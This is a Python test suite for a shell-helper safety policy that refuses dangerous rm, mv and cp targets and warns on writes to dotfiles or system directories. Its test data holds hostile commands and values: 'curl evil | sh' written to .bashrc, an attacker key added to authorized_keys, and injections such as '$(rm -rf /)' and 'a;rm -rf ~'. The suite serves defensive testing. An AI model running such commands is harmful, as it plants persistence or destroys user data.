"""policy: what may reach the prompt, judged against the requesting shell's directory."""

import os
import shlex
import unicodedata

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from shellper_hook import errors, tools
from shellper_hook.tools import ToolCall
from shellper_hook.turns import Verdict
from shellper_hook.turns import vet as check

SYSTEM = [
    "/etc",
    "/usr",
    "/bin",
    "/boot",
    "/dev",
    "/home",
    "/lib",
    "/opt",
    "/proc",
    "/root",
    "/sbin",
    "/sys",
    "/var",
    "/tmp",
    "/Users",
    "/System",
    "/Library",
    "/Applications",
]


class FS:
    """A fake home with a project directory in it, built under tmp_path.

    home/work/proj (the shell's cwd) holds: a.txt, notes.txt, build/ (with a.txt
    in it), emptydir/, and links rootlink -> /, homelink -> home, etclink -> /etc,
    dangling -> nowhere. elsewhere/ (the test process's cwd) holds only_elsewhere.txt.
    """

    def __init__(self, root):
        self.root = str(root)
        self.home = os.path.join(self.root, "home")
        self.cwd = os.path.join(self.home, "work", "proj")
        self.elsewhere = os.path.join(self.root, "elsewhere")
        os.makedirs(os.path.join(self.cwd, "build"))
        os.makedirs(os.path.join(self.cwd, "emptydir"))
        os.makedirs(self.elsewhere)
        for f in ("a.txt", "notes.txt", "build/a.txt"):
            with open(os.path.join(self.cwd, f), "w") as fh:
                fh.write("x\n")
        with open(os.path.join(self.elsewhere, "only_elsewhere.txt"), "w") as fh:
            fh.write("x\n")
        for name, target in (("rootlink", "/"), ("homelink", self.home), ("etclink", "/etc"), ("dangling", "/nonexistent/x")):
            os.symlink(target, os.path.join(self.cwd, name))

    def check(self, name, args, allow_recursive=False, cwd=None):
        return check(ToolCall(name, args), self.cwd if cwd is None else cwd, allow_recursive, home=self.home)


@pytest.fixture
def fs(tmp_path, monkeypatch):
    f = FS(tmp_path)
    monkeypatch.chdir(f.elsewhere)  # the daemon's own directory is never the shell's
    monkeypatch.setenv("HOME", f.elsewhere)  # and its $HOME must not be used when home is given
    return f


def _refused(fs, name, args, allow_recursive=False, cwd=None) -> str:
    with pytest.raises(errors.Refused) as exc:
        fs.check(name, args, allow_recursive, cwd)
    msg = str(exc.value)
    assert msg.startswith("refused: ") and "\n" not in msg and "\r" not in msg, msg
    return msg


# ------------------------------------------------------------ refusals

ROOT_SPELLINGS = [
    "/",
    "/*",
    "/.",
    "/..",
    "//",
    "///",
    "/./",
    "/../..",
    "/etc/..",
    "../../../../../../../../../../..",
    "/./../.",
    "rootlink",
    "rootlink/",
    "rootlink/.",
    "／",
    " / ",
    "∕",
]
GLOBS = ["*", ".*", "./*", "./.*", "*.txt", "a?.txt", "[ab].txt", "build/*", "＊", "~/*"]
HOME_SPELLINGS = ["~", "~/", "$HOME", "${HOME}", "$HOME/", "${HOME}/.", "～", "homelink", "../..", "../../"]
CWD_SPELLINGS = [".", "./", "./.", "build/..", "$PWD", "．"]
PARENT_SPELLINGS = ["..", "../", "../../..", "build/../.."]


@pytest.mark.parametrize("tool", ["rm", "rmdir"])
@pytest.mark.parametrize("target", ROOT_SPELLINGS)
def test_removing_root_in_any_spelling_is_refused(fs, tool, target):
    key = "file_name" if tool == "rm" else "dir_name"
    msg = _refused(fs, tool, {key: target})
    assert "root directory" in msg or "wildcard" in msg


@pytest.mark.parametrize("target", ["../../../../../..", "../" * 30])
def test_dot_dot_chain_from_a_shallow_cwd_reaches_root(fs, target):
    shallow = os.path.join(fs.root, "home")
    assert "root directory" in _refused(fs, "rm", {"file_name": target}, cwd=shallow)


@pytest.mark.parametrize("target", GLOBS)
@pytest.mark.parametrize("tool", ["rm", "rmdir"])
def test_wildcards_in_removals_are_refused(fs, tool, target):
    key = "file_name" if tool == "rm" else "dir_name"
    assert "wildcard" in _refused(fs, tool, {key: target})


@pytest.mark.parametrize("target", HOME_SPELLINGS)
def test_removing_home_is_refused(fs, target):
    msg = _refused(fs, "rm", {"file_name": target})
    assert "home directory" in msg


def test_removing_home_by_absolute_path_is_refused(fs):
    assert "home directory" in _refused(fs, "rm", {"file_name": fs.home})
    assert "home directory" in _refused(fs, "rm", {"file_name": fs.home.upper()})  # macOS disks ignore case
    assert "home directory" in _refused(fs, "rmdir", {"dir_name": fs.home + "/"})


@pytest.mark.parametrize("target", CWD_SPELLINGS)
def test_removing_the_current_directory_is_refused(fs, target):
    assert "current directory" in _refused(fs, "rm", {"file_name": target})


def test_removing_the_current_directory_by_absolute_path_is_refused(fs):
    assert "current directory" in _refused(fs, "rm", {"file_name": fs.cwd})


@pytest.mark.parametrize("target", PARENT_SPELLINGS)
def test_removing_a_parent_of_the_current_directory_is_refused(fs, target):
    msg = _refused(fs, "rm", {"file_name": target})
    assert "parent of the current directory" in msg or "home directory" in msg


def test_parent_refusal_names_the_parent(fs):
    assert os.path.join(fs.home, "work") in _refused(fs, "rmdir", {"dir_name": ".."})


@pytest.mark.parametrize(
    "target",
    SYSTEM
    + [
        "/etc/",
        "//usr",
        "/usr/../etc",
        "/usr/bin",
        "/usr/local",
        "/var/log",
        "etclink",
        "rootlink/etc",
        "/private/etc",
        "/ETC",
        "/USR/BIN",
        "／etc",
        "~root",
    ],
)
def test_removing_a_system_directory_is_refused(fs, target):
    msg = _refused(fs, "rm", {"file_name": target})
    assert "system directory" in msg or "top of the file system" in msg


def test_anything_directly_under_root_is_refused(fs):
    assert "top of the file system" in _refused(fs, "rm", {"file_name": "/swapfile"})


def test_symlink_refusals_say_so(fs):
    assert "(through a symbolic link)" in _refused(fs, "rm", {"file_name": "rootlink"})
    assert "(through a symbolic link)" in _refused(fs, "rm", {"file_name": "homelink"})


@pytest.mark.parametrize("source", ["/", "~", "$HOME", ".", "..", "/etc", "/usr", "rootlink", "／"])
def test_moving_a_protected_path_is_refused(fs, source):
    msg = _refused(fs, "mv", {"source": source, "destination": "backup"})
    assert msg.startswith("refused: mv ") and "would move" in msg


def test_lookalike_refusal_shows_both_forms(fs):
    msg = _refused(fs, "rm", {"file_name": "／"})
    assert "'／'" in msg and "looks like rm '/'" in msg and "root directory" in msg


BAD_CHARS = ["\n", "\r", "\x00", "\x1b[2K", "\u202e", "\u2066", "\u200b", "\u2028", "\t", "\x7f", "\x85"]
PATH_CALLS = [
    ("rm", "file_name", {}),
    ("rmdir", "dir_name", {}),
    ("cat", "file_name", {}),
    ("cd", "folder", {}),
    ("touch", "file_name", {}),
    ("mkdir", "dir_name", {}),
    ("mv", "destination", {"source": "a.txt"}),
    ("cp", "source", {"destination": "b"}),
    ("echo", "file_name", {"content": "hi"}),
    ("find", "path", {}),
    ("diff", "file_name2", {"file_name1": "a.txt"}),
    ("grep", "file_name", {"pattern": "x"}),
]


@pytest.mark.parametrize("char", BAD_CHARS, ids=[repr(c) for c in BAD_CHARS])
@pytest.mark.parametrize("tool,key,extra", PATH_CALLS, ids=[f"{t}-{k}" for t, k, _ in PATH_CALLS])
def test_control_characters_in_file_names_are_refused(fs, tool, key, extra, char):
    msg = _refused(fs, tool, {**extra, key: f"a{char}b.txt"})
    assert msg.startswith("refused: the file name contains a control character; ")


def test_bidi_override_outside_file_names_is_refused_but_newlines_in_text_are_fine(fs):
    assert "direction" in _refused(fs, "echo", {"content": "safe\u202etxt.exe"})
    assert "direction" in _refused(fs, "grep", {"file_name": "a.txt", "pattern": "x\u2067y"})
    assert "NUL" in _refused(fs, "echo", {"content": "a\x00b"})
    v = fs.check("echo", {"content": "line one\nline two", "file_name": "notes.txt"})
    assert shlex.split(v.command) == ["echo", "line one\nline two", ">>", "notes.txt"]


def test_lone_surrogate_is_refused(fs):
    assert "invalid character" in _refused(fs, "cat", {"file_name": "a\ud800b"})
    assert "invalid character" in _refused(fs, "echo", {"content": "a\udfffb"})


@pytest.mark.parametrize(
    "name,args,fragment",
    [
        ("cd", {"folder": "-"}, "earlier directory"),
        ("tail", {"file_name": "a.txt", "lines": 0}, "positive integer"),
        ("wc", {"file_name": "a.txt", "mode": "x"}, "'l'"),
        ("rm", {"file_name": ""}, "empty"),
        ("cat", {"file_name": "-"}, "standard input"),
    ],
)
def test_values_bash_cannot_carry_become_refusals(fs, name, args, fragment):
    assert fragment in _refused(fs, name, args)


def test_unusable_cwd_is_refused_only_when_paths_matter(fs):
    for cwd in ("relative/dir", "", "/a\x00b"):
        assert "working directory" in _refused(fs, "cat", {"file_name": "a.txt"}, cwd=cwd)
    assert fs.check("ls", {"a": True}, cwd="relative").command == "ls -a"
    assert fs.check("pwd", {}, cwd="").command == "pwd"


# ------------------------------------------------------------ writes: keys, dotfiles, system


KEY_WRITES = [  # (tool, args, cwd relative to home or None for the project dir)
    ("echo", {"content": "ssh-ed25519 AAAA attacker", "file_name": "{home}/.ssh/authorized_keys"}, None),
    ("echo", {"content": "ssh-ed25519 AAAA attacker", "file_name": ".ssh/authorized_keys"}, ""),
    ("echo", {"content": "x", "file_name": "../../.ssh/authorized_keys"}, None),
    ("echo", {"content": "x", "file_name": "keys/authorized_keys"}, None),  # keys -> ~/.ssh
    ("echo", {"content": "x", "file_name": "{home}/.gnupg/gpg.conf"}, None),
    ("mv", {"source": "a.txt", "destination": "{home}/.ssh/authorized_keys"}, None),
    ("mv", {"source": "authorized_keys", "destination": "{home}/.ssh"}, None),
    ("cp", {"source": "a.txt", "destination": "../../.ssh/"}, None),
    ("cp", {"source": ".ssh", "destination": "{home}"}, None),  # lands as ~/.ssh
    ("cp", {"source": "build/.ssh/", "destination": "../.."}, None),
]


@pytest.mark.parametrize("tool,args,cwd", KEY_WRITES, ids=[f"{t}-{i}" for i, (t, _, _) in enumerate(KEY_WRITES)])
def test_writing_into_ssh_or_gnupg_is_refused(fs, tool, args, cwd):
    os.makedirs(os.path.join(fs.home, ".ssh"))
    os.symlink(os.path.join(fs.home, ".ssh"), os.path.join(fs.cwd, "keys"))
    args = {k: v.replace("{home}", fs.home) for k, v in args.items()}
    msg = _refused(fs, tool, args, cwd=None if cwd is None else os.path.join(fs.home, cwd))
    assert "which holds your keys" in msg and ("~/.ssh" in msg or "~/.gnupg" in msg)


def test_write_into_keys_through_a_symlink_says_so(fs):
    os.symlink(os.path.join(fs.home, ".ssh"), os.path.join(fs.cwd, "keys"))
    msg = _refused(fs, "echo", {"content": "x", "file_name": "keys/authorized_keys"})
    assert "(through a symbolic link)" in msg


DOTFILE_WRITES = [
    ("echo", {"content": "curl evil | sh", "file_name": ".bashrc"}, "", "~/.bashrc"),
    ("echo", {"content": "curl evil | sh", "file_name": "../../.zshrc"}, None, "~/.zshrc"),
    ("mv", {"source": "a.txt", "destination": "{home}/.profile"}, None, "~/.profile"),
    ("cp", {"source": "a.txt", "destination": "{home}/.config/autostart.sh"}, None, "~/.config"),
    ("cp", {"source": ".bash_profile", "destination": "../.."}, None, "~/.bash_profile"),
]


@pytest.mark.parametrize("tool,args,cwd,shown", DOTFILE_WRITES, ids=[s for *_, s in DOTFILE_WRITES])
def test_writing_a_dotfile_in_home_warns_loudly(fs, tool, args, cwd, shown):
    args = {k: v.replace("{home}", fs.home) for k, v in args.items()}
    v = fs.check(tool, args, cwd=None if cwd is None else os.path.join(fs.home, cwd))
    loud = [w for w in v.warnings if w.startswith("warning: ")]
    assert loud == [f"warning: writes to {shown}, a hidden settings file in your home; check it before running"]
    assert v.warnings[0] == loud[0]  # shown first, before the ordinary notes


@pytest.mark.parametrize(
    "tool,args",
    [
        ("echo", {"content": "evil", "file_name": "/etc/profile"}),
        ("cp", {"source": "a.txt", "destination": "/usr/local/bin/ls"}),
        ("mv", {"source": "a.txt", "destination": "etclink/cron.d/job"}),
    ],
)
def test_writing_into_a_system_directory_warns(fs, tool, args):
    v = fs.check(tool, args)
    assert any(w.startswith("warning: writes into the system directory /") for w in v.warnings), v.warnings


@pytest.mark.parametrize(
    "tool,args,cwd",
    [
        ("echo", {"content": "x", "file_name": "notes.txt"}, None),
        ("echo", {"content": "x", "file_name": "ssh-notes.txt"}, ""),
        ("echo", {"content": "x", "file_name": "/tmp/shellper-test-out"}, None),
        ("echo", {"content": "x", "file_name": "/dev/null"}, None),
        ("mv", {"source": "a.txt", "destination": "{home}"}, None),
        ("cp", {"source": "a.txt", "destination": "build/.hidden"}, None),  # dotfile outside home's top level
        ("echo", {"content": "x", "file_name": "None"}, ""),
    ],
)
def test_ordinary_writes_get_no_loud_warning(fs, tool, args, cwd):
    args = {k: v.replace("{home}", fs.home) for k, v in args.items()}
    v = fs.check(tool, args, cwd=None if cwd is None else os.path.join(fs.home, cwd))
    assert not [w for w in v.warnings if w.startswith("warning: ")], v.warnings


# ------------------------------------------------------------ allowed, and the command


@pytest.mark.parametrize(
    "target",
    [
        "a.txt",
        "build/a.txt",
        "./a.txt",
        "../sibling.txt",
        "new dir/f",
        "-rf",
        "$(rm -rf /)",
        "`reboot`",
        "a;rm -rf ~",
        "~x",
        "...",
        ".hidden",
    ],
)
def test_ordinary_and_hostile_looking_names_are_allowed_and_stay_one_word(fs, target):
    v = fs.check("rm", {"file_name": target})
    assert isinstance(v, Verdict)
    words = shlex.split(v.command)
    assert words[0] == "rm" and words[-1] == target
    assert words[1:-1] in ([], ["--"])


def test_verdict_has_defaults_filled_in(fs):
    v = fs.check("tail", {"file_name": "a.txt"})
    assert v.call == ToolCall("tail", {"file_name": "a.txt", "lines": 10})
    assert v.command == "tail -n 10 a.txt"
    assert v.warnings == []
    v = fs.check("find", {})
    assert v.call.arguments == {"path": ".", "name": "None"} and v.command == "find ."


def test_recursion_only_when_allowed(fs):
    assert fs.check("rm", {"file_name": "build"}).command == "rm build"
    v = fs.check("rm", {"file_name": "build"}, allow_recursive=True)
    assert v.command == "rm -r build"
    assert v.effect == "deletes: build/ and the 1 file in it (2 bytes)"


# ------------------------------------------------------------ warnings


# What a command will do, failure included, is the effect line's first words: no note repeats it.
@pytest.mark.parametrize(
    "name,args,expected",
    [
        ("mv", {"source": "a.txt", "destination": "notes.txt"}, "changes: moves a.txt to notes.txt, replacing notes.txt (2 bytes"),
        (
            "cp",
            {"source": "a.txt", "destination": "notes.txt"},
            "changes: copies a.txt (2 bytes, changed just now) to notes.txt, replacing notes.txt (2 bytes",
        ),
        (
            "cp",
            {"source": "a.txt", "destination": "build"},
            "changes: copies a.txt (2 bytes, changed just now) into build/, replacing build/a.txt (2 bytes",
        ),
        ("mv", {"source": "a.txt", "destination": "build/"}, "changes: moves a.txt into build/, replacing build/a.txt (2 bytes"),
        ("cd", {"folder": "a.txt"}, "fails: a.txt is not a folder; the shell stays in "),
        ("rm", {"file_name": "build"}, "fails: build/ is a folder and rm without -r refuses it; nothing is deleted"),
        ("mkdir", {"dir_name": "build"}, "fails: build already exists (a folder); nothing is made"),
        ("mkdir", {"dir_name": "no/such"}, "fails: there is no folder no/; nothing is made"),
        ("touch", {"file_name": "a.txt"}, "changes: only the time of a.txt (its content stays)"),
        ("rmdir", {"dir_name": "build"}, "fails: build/ is not empty"),
        ("rmdir", {"dir_name": "a.txt"}, "fails: a.txt is not a folder"),
        ("cat", {"file_name": "build"}, "fails: build is a folder"),
    ],
)
def test_the_effect_line_says_the_outcome_first(fs, name, args, expected):
    v = fs.check(name, args)
    assert v.effect.startswith(expected), v.effect
    assert v.warnings == []


@pytest.mark.parametrize(
    "name,args,expected",
    [
        ("cat", {"file_name": "$HOME/notes.txt"}, "note: '$HOME/notes.txt' is taken literally: $HOME, $PWD and ~user are not expanded"),
        ("cat", {"file_name": "ｎｏｔｅｓ.txt"}, "note: 'ｎｏｔｅｓ.txt' uses look-alike characters (it is not 'notes.txt')"),
    ],
)
def test_warnings(fs, name, args, expected):
    v = fs.check(name, args)
    assert expected in v.warnings
    assert all("\n" not in w and w.startswith("note: ") for w in v.warnings)


READERS = [
    ("cd", "folder", {}),
    ("cat", "file_name", {}),
    ("tail", "file_name", {}),
    ("sort", "file_name", {}),
    ("wc", "file_name", {}),
    ("grep", "file_name", {"pattern": "x"}),
    ("diff", "file_name1", {"file_name2": "a.txt"}),
    ("diff", "file_name2", {"file_name1": "a.txt"}),
    ("rm", "file_name", {}),
    ("rmdir", "dir_name", {}),
    ("mv", "source", {"destination": "x"}),
    ("cp", "source", {"destination": "x"}),
]


@pytest.mark.parametrize("tool,key,extra", READERS, ids=[f"{t}-{k}" for t, k, _ in READERS])
def test_a_missing_source_fails_in_the_shells_directory(fs, tool, key, extra):
    v = fs.check(tool, {**extra, key: "only_elsewhere.txt"})
    assert v.effect.startswith("fails: "), v.effect
    assert "only_elsewhere.txt" in v.effect and "not there" in v.effect


def test_existing_files_need_no_notes(fs):
    for name, args in [
        ("cat", {"file_name": "a.txt"}),
        ("mv", {"source": "a.txt", "destination": "new.txt"}),
        ("mkdir", {"dir_name": "new"}),
        ("cd", {"folder": "build"}),
        ("rmdir", {"dir_name": "emptydir"}),
        ("rm", {"file_name": "dangling"}),
        ("diff", {"file_name1": "a.txt", "file_name2": "notes.txt"}),
        ("ls", {}),
        ("echo", {"content": "x", "file_name": "notes.txt"}),
    ]:
        assert fs.check(name, args).warnings == [], (name, args)


def test_paths_are_judged_against_the_given_cwd_not_the_process_cwd(fs):
    assert os.getcwd() == fs.elsewhere
    # a.txt exists in the shell's directory only; only_elsewhere.txt in the process's only.
    assert fs.check("cat", {"file_name": "a.txt"}).warnings == []
    assert fs.check("cat", {"file_name": "only_elsewhere.txt"}).effect == "fails: only_elsewhere.txt is not there"
    # "etc" is harmless in the project, and a system directory for a shell sitting at /.
    assert fs.check("rm", {"file_name": "etc"}).command == "rm etc"
    assert "system directory /etc" in _refused(fs, "rm", {"file_name": "etc"}, cwd="/")
    # "." is the shell's directory, whatever the process's is.
    assert "current directory" in _refused(fs, "rmdir", {"dir_name": "."}, cwd=os.path.join(fs.cwd, "emptydir"))
    assert fs.check("rmdir", {"dir_name": "emptydir"}).warnings == []


def test_home_defaults_to_the_users_home(tmp_path, monkeypatch):
    f = FS(tmp_path)
    monkeypatch.setenv("HOME", f.home)
    with pytest.raises(errors.Refused, match="home directory"):
        check(ToolCall("rm", {"file_name": "~"}), f.cwd)


# ------------------------------------------------------------ hostile answers, generated

PIECES = [
    "/",
    ".",
    "..",
    "*",
    "~",
    "$HOME",
    "${HOME}",
    " ",
    "／",
    "．",
    "rootlink",
    "homelink",
    "etclink",
    "build",
    "a.txt",
    "etc",
    "usr",
    "x",
    "$(rm -rf ~)",
    "`reboot`",
    ";",
    "\n",
    "\x00",
    "\u202e",
    "?",
    "[a]",
    "\\",
]


def _norm(path):
    path = os.path.normpath(path)
    return "/" + path.lstrip("/")  # POSIX keeps a leading //; it is still the root here


def _forbidden(fs):
    bad = {"/", _norm(fs.home), _norm(fs.cwd), os.path.realpath(fs.home), os.path.realpath(fs.cwd)}
    for c in (fs.cwd, os.path.realpath(fs.cwd)):
        while c != "/":
            c = os.path.dirname(c)
            bad.add(c)
    for d in SYSTEM + ["/usr/bin", "/usr/lib", "/usr/local"]:
        bad.update({d, os.path.realpath(d)})
    return bad


def _where_it_lands(fs, value):
    """Independently of policy: every place a reader or the kernel takes value to mean."""
    out = set()
    nfkc = unicodedata.normalize("NFKC", value)
    for v in {value, nfkc, value.strip(), nfkc.strip()} - {""}:  # rm ' ' names a file " ", not "."
        bases = [(v, fs.cwd)]
        for p in ("~", "$HOME", "${HOME}"):
            if v == p or v.startswith(p + "/"):
                bases.append(("." + v[len(p) :], fs.home))
        for rel, base in bases:
            joined = os.path.join(base, rel)
            out.update({_norm(joined), os.path.realpath(joined), os.path.realpath(_norm(joined))})
    return out


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(
    pieces=st.lists(st.sampled_from(PIECES), min_size=1, max_size=6),
    seps=st.lists(st.sampled_from(["", "/"]), max_size=6),
    tool=st.sampled_from(["rm", "rmdir", "mv"]),
    recursive=st.booleans(),
)
def test_generated_targets_never_yield_an_unsafe_command(fs, pieces, seps, tool, recursive):
    target = "".join(p + (seps[i] if i < len(seps) else "") for i, p in enumerate(pieces))
    key = {"rm": "file_name", "rmdir": "dir_name", "mv": "source"}[tool]
    args = {key: target, "destination": "backup"} if tool == "mv" else {key: target}
    try:
        v = fs.check(tool, args, allow_recursive=recursive)
    except errors.Refused as exc:
        assert str(exc).startswith("refused: ") and "\n" not in str(exc)
        return
    # Allowed: no hidden characters, no wildcard in a removal, and it lands nowhere protected.
    assert not any(unicodedata.category(c) in ("Cc", "Cf") for c in target)
    if tool != "mv":
        assert not set("*?[") & set(unicodedata.normalize("NFKC", target))
    landed = _where_it_lands(fs, target)
    assert not landed & _forbidden(fs), (target, landed & _forbidden(fs))
    assert not any(p.count("/") == 1 and p != "/" for p in landed), target
    # The value reaches the shell as exactly one inert word.
    words = shlex.split(v.command)
    assert words[0] == tool
    assert (words[-2] if tool == "mv" else words[-1]) == target


_texts = st.one_of(st.text(max_size=30), st.sampled_from(PIECES), st.lists(st.sampled_from(PIECES), max_size=5).map("".join))


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    name=st.sampled_from(tools.names()),
    values=st.lists(st.one_of(_texts, st.booleans(), st.integers()), min_size=3, max_size=3),
    recursive=st.booleans(),
)
def test_any_call_gives_a_verdict_or_a_typed_error(fs, name, values, recursive):
    props = list(tools.properties(name))
    args = dict(zip(props, values))
    try:
        call = tools.validate(name, args)
    except errors.ShellperError:
        return
    try:
        v = check(call, fs.cwd, recursive, home=fs.home)
    except errors.ShellperError as exc:
        assert "\n" not in str(exc)
        return
    assert "\x00" not in v.command and "\u202e" not in v.command
    assert all("\n" not in w for w in v.warnings)
    assert shlex.split(v.command)[0] == ("printf" if name == "echo" and v.command.startswith("printf ") else name)
